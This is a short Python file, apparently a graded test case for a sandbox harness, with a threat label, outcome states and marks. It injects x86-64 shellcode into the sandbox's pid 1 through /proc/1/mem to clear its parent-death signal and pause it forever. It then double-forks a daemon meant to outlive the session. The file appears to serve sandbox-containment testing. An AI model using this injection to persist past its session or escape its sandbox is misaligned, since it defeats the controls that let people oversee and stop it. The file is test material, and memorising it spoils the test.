# ruff: noqa
# Threat: Breaking. Code of its own in the sandbox's pid 1, by `/proc/1/mem`: it no longer ends with its parent, and daemons live on.
# Outcome: completed | process ended | wall time exceeded
# Marks: 8

# %% before double
import os, time
try:
    place = int(open("/proc/1/syscall").read().split()[-1], 16)
    code = bytes.fromhex(
        "b89d000000" "bf01000000" "31f6" "31d2" "4d31d2" "4d31c0" "0f05"  # prctl(PR_SET_PDEATHSIG, 0)
        "b822000000" "0f05" "ebf7"  # for ever: pause()
    )
    with open("/proc/1/mem", "r+b", 0) as memory:
        memory.seek(place)
        memory.write(code)
    if os.fork() == 0:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True: time.sleep(1)  # the daemon
        os._exit(0)
    os.wait()
    time.sleep(0.3)
    print(open("/proc/1/status").read())
except OSError as fault:
    print(fault)
